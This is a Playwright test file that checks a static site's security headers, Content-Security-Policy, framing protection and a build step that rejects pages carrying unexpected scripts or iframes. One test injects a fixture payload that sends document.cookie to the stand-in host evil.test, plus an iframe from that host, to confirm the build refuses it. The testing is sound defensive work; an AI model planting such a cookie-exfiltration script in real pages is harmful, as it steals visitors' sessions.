/** The response headers and the Content-Security-Policy, as a reader's browser meets them. */
import { spawnSync } from 'node:child_process';
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { withoutFramework } from '../scripts/build/html-first';
import { headerRules } from '../scripts/author/serve';
import { pageTypes } from './content';

/** The headers vercel.json gives a path, matched as Vercel matches them. */
const headersFor = headerRules(JSON.parse(readFileSync('vercel.json', 'utf8')));

/** Records CSP violations from the first script on, before the page's own code runs. */
async function watchViolations(page: import('@playwright/test').Page) {
  await page.addInitScript(() => {
    (window as unknown as { violations: string[] }).violations = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      (window as unknown as { violations: string[] }).violations.push(`${event.violatedDirective} ${event.blockedURI}`),
    );
  });
}

for (const [name, path] of Object.entries(pageTypes)) {
  test(`the ${name} page sends the security headers and loads with no CSP violation or console error`, async ({ page }) => {
    const errors: string[] = [];
    page.on('console', (message) => message.type() === 'error' && errors.push(message.text()));
    page.on('pageerror', (error) => errors.push(error.message));
    await watchViolations(page);
    const response = await page.goto(path, { waitUntil: 'networkidle' });
    const headers = response!.headers();
    for (const [key, value] of Object.entries(headersFor(new URL(path, 'http://x').pathname))) expect(headers[key.toLowerCase()], key).toBe(value);
    if (path.startsWith('/search')) await expect(page.getByRole('status')).toContainText('results for');
    // A 404 answer is logged by Chromium as a console error; that one is the point of the page.
    const unexpected = errors.filter((text) => !(name === 'not found' && text.includes('404')));
    expect(unexpected).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { violations: string[] }).violations)).toEqual([]);
  });
}

test('an inline script the page did not ship is refused', async ({ page }) => {
  await watchViolations(page);
  await page.goto('/');
  const ran = await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.injected = true';
    document.body.append(script);
    return (window as unknown as { injected?: boolean }).injected === true;
  });
  expect(ran).toBe(false);
  await expect.poll(() => page.evaluate(() => (window as unknown as { violations: string[] }).violations.join(' '))).toContain('script-src');
});

test('the pages step fails the build on a page holding a script or frame the site did not write, naming it', () => {
  const dir = mkdtempSync(join(tmpdir(), 'pin-'));
  try {
    for (const page of ['index.html', 'about.html', 'search.html', 'share.html']) cpSync(join('out', page), join(dir, page));
    const clean = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/build/finish-pages.ts', dir], { encoding: 'utf8' });
    expect(clean.status, clean.stderr).toBe(0);

    const about = readFileSync(join(dir, 'about.html'), 'utf8');
    writeFileSync(join(dir, 'about.html'), about.replace('</main>', '<script>fetch("https://evil.test/?c="+document.cookie)</script><iframe src="https://evil.test"></iframe></main>'));
    const home = readFileSync(join(dir, 'index.html'), 'utf8');
    const refused = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/build/finish-pages.ts', dir], { encoding: 'utf8' });
    expect(refused.status).toBe(1);
    expect(refused.stderr).toContain(`${join(dir, 'about.html')}: an inline script the site did not write: "fetch(\\"https://evil.test/?c=\\"+document.cookie)"`);
    expect(refused.stderr).toContain(`${join(dir, 'about.html')}: <iframe> loading "https://evil.test"`);
    expect(refused.stderr).not.toContain('index.html');
    // Nothing is pinned when anything is refused.
    expect(readFileSync(join(dir, 'index.html'), 'utf8')).toBe(home);

    // The share page without its framework scripts is refused too: it needs React.
    writeFileSync(join(dir, 'about.html'), about);
    writeFileSync(join(dir, 'share.html'), withoutFramework(readFileSync(join(dir, 'share.html'), 'utf8')));
    const lost = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/build/finish-pages.ts', dir], { encoding: 'utf8' });
    expect(lost.status).toBe(1);
    expect(lost.stderr).toContain(`${join(dir, 'share.html')}: needs React in the browser (INTERACTIVE_PATHS) but carries no framework script`);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('the site cannot be framed by another', async ({ request }) => {
  const response = await request.get('/');
  expect(response.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
});

test('no page of out/ opens a link in a new tab without rel="noopener noreferrer"', () => {
  const pages = readdirSync('out', { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile() && entry.name.endsWith('.html'))
    .map((entry) => join(entry.parentPath, entry.name));
  expect(pages.length).toBeGreaterThan(10);
  const unsafe = pages.flatMap((page) =>
    [...readFileSync(page, 'utf8').matchAll(/<a\b[^>]*\btarget="_blank"[^>]*>/g)]
      .map(([tag]) => tag)
      .filter((tag) => !/\brel="[^"]*\bnoopener\b[^"]*"/.test(tag) || !/\brel="[^"]*\bnoreferrer\b[^"]*"/.test(tag))
      .map((tag) => `${page}: ${tag}`),
  );
  expect(unsafe).toEqual([]);
});

test('static pages ship no framework JavaScript and no inline script; search runs its one script, and only share runs React', () => {
  const scriptsOf = (file: string) => [...readFileSync(file, 'utf8').matchAll(/<script\b([^>]*)>/g)].map(([, attributes]) => attributes.trim());
  for (const [name, path] of Object.entries(pageTypes)) {
    if (name === 'search' || name === 'not found') continue;
    const file = `out${path === '/' ? '/index' : path}.html`;
    expect(scriptsOf(file).filter((attributes) => !/^src="\/site\.js\?v=\w+"$/.test(attributes) && attributes !== 'type="application/ld+json"'), file).toEqual([]);
  }
  expect(scriptsOf('out/404.html').filter((attributes) => !attributes.startsWith('src="/site.js')), '404').toEqual([]);
  expect(scriptsOf('out/search.html').filter((attributes) => !attributes.startsWith('src="/site.js'))).toEqual(['src="/search.js" defer=""']);
  expect(scriptsOf('out/share.html').some((attributes) => attributes.startsWith('src="/_next/static/')), 'share').toBe(true);
  const payloads = readdirSync('out', { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile() && entry.name.endsWith('.txt'));
  expect(payloads.map((entry) => entry.name)).toEqual(['robots.txt']);
});

test('a static page and search allow no inline script; the share page allows only its own, pinned', async ({ request }) => {
  const policy = async (path: string) => (await request.get(path)).headers()['content-security-policy'];
  for (const path of ['/', '/about', pageTypes.tag, '/no-such-page', '/search']) {
    expect(await policy(path), path).toContain("script-src 'self';");
  }
  expect(await policy('/search')).not.toMatch(/unsafe-inline|wasm-unsafe-eval/);
  expect(readFileSync('out/search.html', 'utf8')).not.toContain('http-equiv');
  expect(await policy('/share')).toContain("script-src 'self' 'unsafe-inline';");
  expect(readFileSync('out/share.html', 'utf8')).toMatch(/<meta http-equiv="Content-Security-Policy" content="script-src 'self'[^"]*( 'sha256-[^']+')+"\/>/);
});
